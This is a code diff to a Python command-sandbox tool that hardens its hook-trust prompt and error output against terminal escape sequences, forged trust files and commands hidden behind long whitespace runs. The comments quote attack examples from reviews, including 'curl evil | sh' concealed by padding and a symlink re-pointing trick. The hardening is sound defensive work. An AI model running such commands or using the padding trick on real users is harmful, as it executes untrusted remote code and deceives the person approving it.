@@ -40,7 +40,12 @@ def open_session(args: argparse.Namespace, **context_args: Any) -> Session:
         settings_file=args.settings)
     permissions = load_permissions(os.path.realpath(cwd), home(), cli)
     for problem in permissions.problems:
-        print(f"shellgate: settings: {one_line(Exception(str(problem)))}", file=sys.stderr)
+        # a repository's text (a key, a rule) may hold escape sequences:
+        # shown, never obeyed by the terminal
+        from .tool import shown  # noqa: PLC0415
+
+        print(f"shellgate: settings: {shown(one_line(Exception(str(problem))))}",
+              file=sys.stderr)
     # Where it really is: the sink must never write through a link a
     # command may re-point (from a review: `--audit-log ws/logs/audit` with
     # ws/logs a link; `ln -sfn evil logs` sent the rest of the log there).
@@ -93,24 +98,46 @@ def _ask_trust(workspace: str, hooks: tuple[Any, ...]) -> bool | None:
     """First use of a workspace whose repository names hooks: a person at
     the terminal sees every command and decides (recorded for next time);
     ``None`` leaves it to the trust file."""
+    import re  # noqa: PLC0415
+
     from ..hooks import TrustError, is_trusted, trust  # noqa: PLC0415
 
     if is_trusted(workspace):
-        return True
+        # the trust file says so: the session reads it again, and not when
+        # it lies where sandboxed commands write (from a review: with
+        # XDG_CONFIG_HOME in the workspace, a `True` here ran the hooks a
+        # forged trust file named, whatever the session would have said)
+        return None
     from rich.console import Console  # noqa: PLC0415
     from rich.markup import escape  # noqa: PLC0415
     from rich.prompt import Confirm  # noqa: PLC0415
 
     from .tool import shown  # noqa: PLC0415
 
+    def seen(text: str, limit: int = 500) -> str:
+        # From a review: `curl evil | sh`, then 200 newlines (or 20000
+        # spaces, or blank-looking letters), then `echo lint` showed the
+        # person only `echo lint` above the question. Newlines and tabs are
+        # shown as escapes, a blank run as its length, a long text is cut
+        # and says so.
+        text = re.sub(r"[\s\u2800\u3164\u115f\u1160\uffa0]{8,}",
+                      lambda m: f" ⟨{len(m.group())} blank characters⟩ ", text)
+        text = shown(text).replace("\n", "\\n").replace("\t", "\\t")
+        if len(text) <= limit:
+            return escape(text)
+        return escape(f"{text[:limit]} ⟨… {len(text) - limit} more characters not shown: read "
+                      "the settings file before trusting it⟩")
+
     console = Console(stderr=True, highlight=False)
-    console.print(f"[bold]{escape(shown(workspace))}[/bold]: this repository's settings name "
+    console.print(f"[bold]{seen(workspace)}[/bold]: this repository's settings name "
                   f"{len(hooks)} hook(s), programs that would run on this machine, outside "
                   "the sandbox, at tool calls:")
     for hook in hooks:
-        console.print(f"  {escape(shown(hook.event))}: {escape(shown(hook.command))}  "
-                      f"[dim]({escape(shown(hook.origin))})[/dim]")
-    if not Confirm.ask("Trust this workspace to run them?", console=console, default=False):
+        console.print(f"  {seen(hook.event)}: {seen(hook.command)}  [dim]({seen(hook.origin)})"
+                      "[/dim]")
+    # the count again beside the question: the list above may have scrolled
+    if not Confirm.ask(f"Trust this workspace to run these {len(hooks)} hook(s)?",
+                       console=console, default=False):
         return False
     try:
         trust(workspace)
